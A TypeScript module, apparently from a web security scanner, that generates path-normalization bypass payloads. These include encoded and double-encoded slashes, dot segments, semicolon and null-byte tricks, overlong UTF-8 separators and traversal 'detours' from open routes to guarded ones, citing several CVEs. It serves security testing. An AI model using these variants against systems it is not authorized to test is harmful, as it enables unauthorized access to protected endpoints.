import { pathOf } from "../../model/canonical-path.js"

/**
 * Other spellings of a path: some router somewhere reads each of them as the path itself.
 *
 * @param target canonical; its query stays
 * @see CVE-2019-9901, CVE-2021-29492, CVE-2026-26205
 */
export function pathVariants(target: string): readonly string[] {
  const path = pathOf(target).replace(/(?<=.)\/$/, "")
  const query = target.slice(pathOf(target).length)
  const at = path.lastIndexOf("/")
  const [head, tail] = [path.slice(0, at), path.slice(at + 1)]
  const spellings = [
    ...between.map((joint) => `${head === "" ? "/" : head}${joint}${tail}`),
    ...endings.map((ending) => `${path}${ending}`),
    `/${path}`,
    `//${path}`,
    `/.${path}`,
    `/%2e${path}`,
    `/x/..${path}`,
    `${head}/${escaped(tail)}`,
    path.toUpperCase(),
    path.slice(1),
  ]
  return [...new Set(spellings)].map((spelling) => `${spelling}${query}`).filter((spelling) => spelling !== target)
}

/**
 * Ways from an open path to a guarded one, for whoever matches the beginning of a path first and resolves it afterwards.
 *
 * @param open canonical
 */
export function detours(open: string, guarded: string): readonly string[] {
  const from = pathOf(open).replace(/\/$/, "")
  const steps = from.split("/").length - 1
  return upwards.map((up) => `${from}/${Array.from({ length: steps }, () => up).join("/")}${guarded}`)
}

/** In the place of the last slash. */
const between = [
  "//",
  "/./",
  "/%2e/",
  "/x/../",
  "/x/%2e%2e/",
  "/x/.%2E/",
  "/x/..;/",
  "/x/..%2f",
  "/x/..%5c",
  "/x/%252e%252e/",
  "%2F",
  "%2f",
  "%5C",
  "\\",
  "%252F",
  ";x=y/",
  "%c0%af",
  "%ef%bc%8f",
] as const
const endings = [
  "/",
  "//",
  "/.",
  "/%2e",
  "/x/..",
  ".",
  "%2e",
  "..",
  ";",
  ";x=y",
  "%3Bx=y",
  "%00",
  "%00.html",
  "%20",
  "%09",
  "%0d%0a",
  "%23",
  "#",
  "%3F",
  "%",
  "\u00ff",
  ".css",
  ".js",
  ".png",
  ".json",
  "/x.css",
  ";.css",
  "%00.css",
] as const
const upwards = ["..", "%2e%2e", "..;", ".%2e", "..%2f..", "%252e%252e"] as const

/** The first letter in an escape that nobody needs. */
function escaped(segment: string): string {
  const [first = ""] = segment
  return first === "" ? "%" : `%${first.charCodeAt(0).toString(16).padStart(2, "0")}${segment.slice(1)}`
}
